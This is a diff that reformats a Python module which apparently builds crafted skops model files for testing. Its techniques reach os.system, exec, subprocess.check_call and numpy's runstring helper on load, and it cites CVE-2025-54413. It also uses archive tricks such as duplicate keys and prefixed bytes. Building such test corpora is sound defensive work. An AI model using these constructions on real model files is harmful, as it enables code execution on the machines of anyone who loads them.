@@ -84,18 +84,23 @@ _ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
     "attrgetter of a module": (
         "out of a function's own module",
         lambda p: _called(
-            _called(_operator("attrgetter", _text("system")), node("FunctionNode", "os", "shutil")), _text(p.command)
+            _called(_operator("attrgetter", _text("system")), node("FunctionNode", "os", "shutil")),
+            _text(p.command),
         ),
     ),
     "method of a path": (
         "a bound method, called (CVE-2025-54413)",
-        lambda p: _called(node("MethodNode", "PosixPath", "pathlib", content={"func": "touch", "obj": _path(p)})),
+        lambda p: _called(
+            node("MethodNode", "PosixPath", "pathlib", content={"func": "touch", "obj": _path(p)})
+        ),
     ),
     "method chain": (
         "a method of a method's object (CVE-2025-54413)",
         lambda p: _called(
             node(
-                "MethodNode", "PosixPath", "pathlib",
+                "MethodNode",
+                "PosixPath",
+                "pathlib",
                 content={"func": "write_text", "obj": _path(p)},
             ),
             _text("x"),
@@ -105,9 +110,13 @@ _ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
         "a partial of exec",
         lambda p: _called(
             node(
-                "PartialNode", "partial", "functools",
+                "PartialNode",
+                "partial",
+                "functools",
                 content={
-                    "func": _EXEC, "args": _tuple(_text(p.code)), "kwds": _dict(),
+                    "func": _EXEC,
+                    "args": _tuple(_text(p.code)),
+                    "kwds": _dict(),
                     "namespace": node("JsonNode", "str", "builtins", content="null", is_json=True),
                 },
             )
@@ -120,7 +129,9 @@ _ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
     "constructor that is a process": (
         "a class whose constructor acts",
         lambda p: node(
-            "ConstructorFromReduceNode", "check_call", "subprocess",
+            "ConstructorFromReduceNode",
+            "check_call",
+            "subprocess",
             content=_tuple(_list(_text("touch"), _text(p.marker))),
         ),
     ),
@@ -135,8 +146,11 @@ _ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
     "loss that is a function": (
         "a constructor of the file's choice",
         lambda p: node(
-            "LossNode", "system", "os",
-            __reduce__={"args": _tuple(_text(p.command))}, content=_dict(),
+            "LossNode",
+            "system",
+            "os",
+            __reduce__={"args": _tuple(_text(p.command))},
+            content=_dict(),
         ),
     ),
     "object that is imported": (
@@ -149,22 +163,25 @@ _ROOTS: dict[str, tuple[str, Callable[[Place], dict[str, Any]]]] = {
     ),
     "reduce over text": (
         "functools",
-        lambda p: _called(
-            node("FunctionNode", "reduce", "functools"), _EXEC, _list(_text(p.code), _dict())
-        ),
+        lambda p: _called(node("FunctionNode", "reduce", "functools"), _EXEC, _list(_text(p.code), _dict())),
     ),
     "numpy helper": (
         "a function of a package that models use",
-        lambda p: _called(node("FunctionNode", "runstring", "numpy.testing._private.utils"), _text(p.code), _dict()),
+        lambda p: _called(
+            node("FunctionNode", "runstring", "numpy.testing._private.utils"), _text(p.code), _dict()
+        ),
     ),
-}  # fmt: skip
+}
 
 
 def _old_function(place: Place) -> bytes:
     """Use the function node of the first protocol, whose class says something else than it imports."""
     function = node(
-        "FunctionNode", "sqrt", "numpy", content={"module_path": "os", "function": "system"},
-    )  # fmt: skip
+        "FunctionNode",
+        "sqrt",
+        "numpy",
+        content={"module_path": "os", "function": "system"},
+    )
     return archive(_called(function, _text(place.command)), protocol=0)
 
 
@@ -205,9 +222,23 @@ TECHNIQUES = [
         Technique(f"skops {way}", "skops", about, lambda p, root=root: archive(root(p)), "skops", ".skops")
         for way, (about, root) in _ROOTS.items()
     ),
-    Technique("skops function of the first protocol", "skops", "class and contents disagree", _old_function, "skops", ".skops"),
-    Technique("skops distribution in a search", "skops", "one string of a fitted search is changed", _search, "skops", ".skops"),
+    Technique(
+        "skops function of the first protocol",
+        "skops",
+        "class and contents disagree",
+        _old_function,
+        "skops",
+        ".skops",
+    ),
+    Technique(
+        "skops distribution in a search",
+        "skops",
+        "one string of a fitted search is changed",
+        _search,
+        "skops",
+        ".skops",
+    ),
     Technique("skops schema twice", "skops", "the second is read", _second_schema, "skops", ".skops"),
     Technique("skops key twice", "skops", "the second is read", _doubled_key, "skops", ".skops"),
     Technique("skops behind other bytes", "skops", "zip is read from its end", _prefixed, "skops", ".skops"),
-]  # fmt: skip
+]
